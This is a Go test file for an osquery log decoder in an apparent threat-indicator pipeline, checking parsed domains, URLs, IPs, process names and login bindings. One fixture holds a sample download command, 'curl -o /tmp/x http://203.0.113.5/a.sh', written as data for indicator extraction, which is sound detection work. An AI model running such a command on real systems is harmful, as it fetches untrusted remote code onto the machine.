package osquery

import (
	"testing"

	"github.com/iocflow/iocflow/feeds/ioc"
	dt "github.com/iocflow/iocflow/pipeline/decode/internal/decodetest"
	"github.com/iocflow/iocflow/pipeline/event"
)

var files = []string{"testdata/osqueryd.results.log", "testdata/osqueryd.snapshots-and-batch.log",
	"testdata/osqueryd.status.log"}

func TestDecoder_Corpus(t *testing.T) {
	dt.LineCorpus(t, Decoder{}, "testdata/corpus.golden", files...)
}

func TestDecoder_Tables(t *testing.T) {
	cases := []struct {
		name, rec string
		want      []dt.Obs
	}{
		{"dns_cache", `{"name":"pack/win/dns_cache","hostIdentifier":"h","unixTime":1,` +
			`"columns":{"name":"Evil.Example.com","type":"1","flags":"0"},"action":"added"}`,
			[]dt.Obs{{Field: "columns.name", Type: ioc.Domain, Value: "evil.example.com"}}},
		{"browser history and listening ports", `{"name":"q","unixTime":"1","snapshot":[` +
			`{"url":"https://evil.example/x","title":"t"},{"address":"0.0.0.0","port":"22"},` +
			`{"address":"192.0.2.9","port":"8080","pid":"7","name":"sshd"}]}`,
			[]dt.Obs{{Field: "snapshot.url", Type: ioc.URL, Value: "https://evil.example/x"},
				{Field: "snapshot.address", Type: ioc.IPv4, Value: "192.0.2.9"},
				{Field: "snapshot.name", Type: ioc.ProcessName, Value: "sshd"}}},
		{"process with command line", `{"name":"processes","unixTime":1,"action":"added",` +
			`"columns":{"pid":"1","name":"curl","path":"/usr/bin/curl",` +
			`"cmdline":"curl -o /tmp/x http://203.0.113.5/a.sh"}}`,
			[]dt.Obs{{Field: "columns.cmdline", Type: ioc.Text,
				Value: "curl -o /tmp/x http://203.0.113.5/a.sh"},
				{Field: "columns.cmdline", Type: ioc.URL, Value: "http://203.0.113.5/a.sh"},
				{Field: "columns.name", Type: ioc.ProcessName, Value: "curl"},
				{Field: "columns.path", Type: ioc.FilePath, Value: "/usr/bin/curl"}}},
	}
	for _, c := range cases {
		var ev event.Event
		if err := (Decoder{}).Decode([]byte(c.rec), &ev); err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		dt.Check(t, c.name, &ev, c.want)
	}
}

func TestDecoder_Rejects(t *testing.T) {
	for _, rec := range []string{`{"columns":{}}`, `{"hello":1}`,
		`{"name":"x","calendarTime":"soon","columns":{}}`, `[`} {
		var ev event.Event
		dt.CheckError(t, FormatName, []byte(rec), (Decoder{}).Decode([]byte(rec), &ev))
	}
}

func FuzzDecoder(f *testing.F) { dt.FuzzDecoder(f, Decoder{}, files...) }

func BenchmarkDecoder(b *testing.B) { dt.BenchLines(b, Decoder{}, files...) }

func TestDecoder_LoggedInUsersBinding(t *testing.T) {
	rec := func(action, typ, host string) string {
		return `{"name":"pack_it_logged_in_users","hostIdentifier":"bastion-1",` +
			`"unixTime":1700000000,"action":"` + action + `","columns":{"type":"` + typ +
			`","user":"alice","tty":"pts/0","host":"` + host + `","time":"1700000000"}}`
	}
	cases := []struct {
		name, rec, want string
	}{
		{"remote session binds the address", rec("added", "user", "10.1.2.3"), "10.1.2.3 alice"},
		{"mapped address is unmapped", rec("added", "user", "::ffff:10.1.2.3"), "10.1.2.3 alice"},
		{"ended session binds nothing", rec("removed", "user", "10.1.2.3"), ""},
		{"console session has no address", rec("added", "user", "tty1"), ""},
		{"system entries bind nothing", rec("added", "boot_time", "10.1.2.3"), ""},
	}
	for _, c := range cases {
		var ev event.Event
		if err := (Decoder{}).Decode([]byte(c.rec), &ev); err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		got := ""
		if !ev.Binding.IsZero() {
			got = ev.Binding.IP.String() + " " + ev.Binding.User
		}
		if got != c.want || ev.Binding.Host != "" {
			t.Errorf("%s: binding %q (host %q), want %q and no host", c.name, got,
				ev.Binding.Host, c.want)
		}
	}
}
